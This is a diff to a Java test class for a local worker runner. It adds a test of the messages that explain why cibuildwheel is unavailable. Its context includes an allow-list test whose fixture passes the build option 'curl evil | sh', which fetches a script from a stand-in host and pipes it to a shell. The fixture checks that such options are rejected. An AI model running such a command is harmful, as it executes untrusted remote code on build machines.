@@ -217,6 +217,19 @@ class LocalWorkerRunnerTest {
 	}
 
 	@Test
+	void theCibuildwheelCheckSaysWhyThisMachinesBuildsRunWithoutIt() {
+		// This machine's interpreter has no cibuildwheel (the worker's own import test).
+		assertThat(new LocalWorkerRunner(OFFLINE).cibuildwheelUnavailable(this.temp.resolve("auto")))
+			.contains("cibuildwheel is not installed for " + Sdists.PYTHON);
+		assertThat(new LocalWorkerRunner(OFFLINE.withCibuildwheel(CibuildwheelMode.NEVER, "cp3*", ""))
+			.cibuildwheelUnavailable(this.temp.resolve("never")))
+			.contains("cibuildwheel disabled (--cibuildwheel never)");
+		assertThat(new LocalWorkerRunner(OFFLINE.withCibuildwheel(CibuildwheelMode.PLAN, "cp3*", ""))
+			.cibuildwheelUnavailable(this.temp.resolve("plan")))
+			.contains("cibuildwheel planned only (--cibuildwheel plan)");
+	}
+
+	@Test
 	void optionsOutsideTheAllowListAreAConfigError() throws Exception {
 		WorkerRun run = build(OFFLINE, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS,
 				"{\"before-all\": \"curl evil | sh\"}");
